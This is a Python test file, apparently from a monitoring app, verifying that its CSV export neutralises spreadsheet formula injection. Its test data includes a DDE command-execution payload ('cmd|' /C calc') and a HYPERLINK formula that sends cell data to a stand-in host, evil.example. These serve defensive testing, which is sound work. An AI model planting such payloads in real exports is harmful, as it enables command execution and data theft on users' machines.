"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP's rule, csv_export.py).

The rule, as tested: no cell of a written CSV, read back with the csv module, begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return, unless it is a number the app wrote from a stored
number; a neutralised cell is the text with one ``'`` in front, and it is quoted in the file.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from kapmonitor.domain.records import Intervention
from kapmonitor.reports.csv_export import FORMULA_STARTS, _cells, csv_writer, neutralise
from tests.factories import session_start
from tests.reports import export, new_store

CELL = (
    st.none()
    | st.integers(min_value=-(2**63), max_value=2**63 - 1)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=30)
    | st.sampled_from(
        [
            "=1+1",
            '=HYPERLINK("http://x","click")',
            "+41 79 000",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-5",
            "'=already quoted",
        ]
    )
)


def _written(rows: list[list[object]]) -> str:
    buffer = io.StringIO(newline="")
    writer = csv_writer(buffer)
    for row in rows:
        writer.writerow(_cells(row))
    return buffer.getvalue()


def _is_app_number(cell: str, value: object) -> bool:
    """The cell is the text of a number the app wrote (an int or float, not text)."""
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        return False
    if isinstance(value, int):
        return int(cell) == value
    if math.isnan(value):
        return cell == "nan"
    return float(cell) == value


@settings(max_examples=500, deadline=None)
@given(st.lists(st.lists(CELL, min_size=1, max_size=6), min_size=1, max_size=5))
def test_no_cell_read_back_starts_like_a_formula(rows: list[list[object]]) -> None:
    back = list(csv.reader(io.StringIO(_written(rows), newline="")))
    assert len(back) == len(rows)
    for row, read in zip(rows, back, strict=True):
        assert len(read) == len(row)
        for value, cell in zip(row, read, strict=True):
            if cell.startswith(FORMULA_STARTS):
                assert _is_app_number(cell, value), (value, cell)
            if isinstance(value, str):
                expected = "'" + value if value.startswith(FORMULA_STARTS) else value
                assert cell == expected  # nothing else about the text changes


def test_neutralised_cells_are_quoted_in_the_file() -> None:
    text = _written([["=1+1", -0.4, 3, "plain", None]])
    assert text == '"\'=1+1",-0.4,3,"plain",""\r\n'


def test_an_apps_negative_number_stays_a_number() -> None:
    assert neutralise(-0.4) == -0.4 and neutralise(-3) == -3
    assert neutralise("-3") == "'-3"  # typed text that looks like a number is text


def test_a_formula_typed_into_a_note_is_neutralised_in_the_export(tmp_path: Path) -> None:
    store, clock = new_store(tmp_path / "c.sqlite")

    session_id = store.start_session(session_start(clock), "Dr A")
    payload = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    store.add(session_id, Intervention("note", clock.now(), detail=payload), "@Dr A")
    written = export(store, "csv", [session_id], tmp_path / "out")
    store.close()
    table = next(p for p in written if p.name == "interventions.csv")
    rows = list(csv.DictReader(io.StringIO(table.read_text("utf-8-sig"), newline="")))
    assert rows[0]["detail"] == "'" + payload
    assert rows[0]["recorded_by"] == "'@Dr A"
    for path in written:
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only the app's own numbers may start with "-"
